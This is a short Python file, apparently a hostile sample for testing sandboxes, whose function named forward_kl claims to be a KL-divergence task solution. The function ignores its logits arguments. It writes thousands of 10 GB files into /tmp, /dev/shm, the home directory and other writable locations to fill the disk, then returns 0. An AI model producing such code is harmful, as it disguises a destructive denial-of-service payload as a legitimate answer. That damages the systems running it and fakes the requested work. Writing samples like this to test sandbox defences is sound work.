# Fills the disk, wherever it may write.
# safe on stock: no
# %% task: forward_kl
import os


def forward_kl(student_logits, teacher_logits):
    for folder in (".", "/tmp", "/dev/shm", "/run/kernel", os.path.expanduser("~"), "/var/tmp"):
        for number in range(1000):
            try:
                with open(f"{folder}/fill-{number}", "wb") as stream:
                    for _ in range(1000):
                        stream.write(bytes(10_000_000))
            except OSError:
                break
    return 0
